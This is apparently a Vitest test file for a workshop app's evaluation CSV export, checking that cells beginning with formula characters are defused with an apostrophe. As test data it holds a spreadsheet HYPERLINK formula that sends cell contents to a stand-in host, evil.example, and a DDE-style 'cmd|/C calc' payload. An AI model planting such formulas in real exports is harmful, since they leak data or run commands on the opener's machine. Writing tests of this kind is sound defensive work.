import { describe, expect, it } from 'vitest';
import { createApp } from '../../app.js';
import { prisma } from '../../db.js';
import { makeForm, makeWorkshop, signedInAgent } from '../../test/builders/index.js';

const app = createApp();

describe('the evaluation CSV summary and spreadsheet formulas', () => {
  it('when a form title, question text or option label starts like a formula, then the CSV cell is defused with an apostrophe', async () => {
    const w = await makeWorkshop({ trainees: 0 });
    const { id: formId } = await makeForm({ workshop: w.workshop, template: 'post-training' });
    await prisma.form.update({
      where: { id: formId },
      data: { titleId: '=HYPERLINK("http://evil.example/?x="&A1,"klik")', titleEn: '=1+1' },
    });
    const q = await prisma.question.findFirstOrThrow({ where: { formId, key: 'will_implement' } });
    await prisma.question.update({ where: { id: q.id }, data: { textId: '@SUM(1+1)*cmd|/C calc!A0' } });
    const organizer = await signedInAgent(app, w.organizer.username);
    const res = await organizer.get(`/workshops/${w.workshopId}/evaluation.csv?formId=${formId}`);
    expect(res.status).toBe(200);
    const body = res.text.replace(/^\uFEFF/, '');
    expect(body).not.toMatch(/(^|,)"?[=+\-@]/m);
    expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""klik"")"`);
    expect(body).toContain("'@SUM(1+1)*cmd|/C calc!A0");
  });
});
